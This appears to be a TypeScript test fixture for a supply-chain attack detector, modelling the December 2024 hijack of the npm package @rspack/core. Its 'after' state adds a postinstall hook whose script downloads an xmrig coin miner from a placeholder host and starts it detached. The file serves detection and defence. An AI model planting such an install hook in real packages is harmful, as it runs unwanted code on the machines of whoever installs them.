import { manifest } from '../pack-release.ts'
import type { Hijack } from './hijack.ts'

const code = "exports.rspack = (options) => require('./binding')(options)\n"

/** December 2024: a postinstall script that asked where it ran, fetched a miner of coins and started it. */
export const rspack: Hijack = {
  name: '@rspack/core',
  ecosystem: 'npm',
  from: '1.1.6',
  to: '1.1.7',
  before: { 'package.json': manifest(), 'index.js': code, 'binding.js': 'module.exports = (options) => options\n' },
  after: {
    'package.json': manifest({ scripts: { postinstall: 'node dist/util/support.js' } }),
    'index.js': code,
    'binding.js': 'module.exports = (options) => options\n',
    'dist/util/support.js': `const os = require('os'), path = require('path'), fs = require('fs'), https = require('https'), cp = require('child_process')\nconst file = path.join(os.homedir(), '.config', 'xmrig')\nhttps.get('https://files.invalid/xmrig-6.22.2.tar.gz', (r) => r.pipe(fs.createWriteStream(file)).on('finish', () => cp.spawn(file, ['-o', 'pool.invalid:80'], { detached: true })))\n`,
  },
  tells: /runs a program that it fetched/,
}
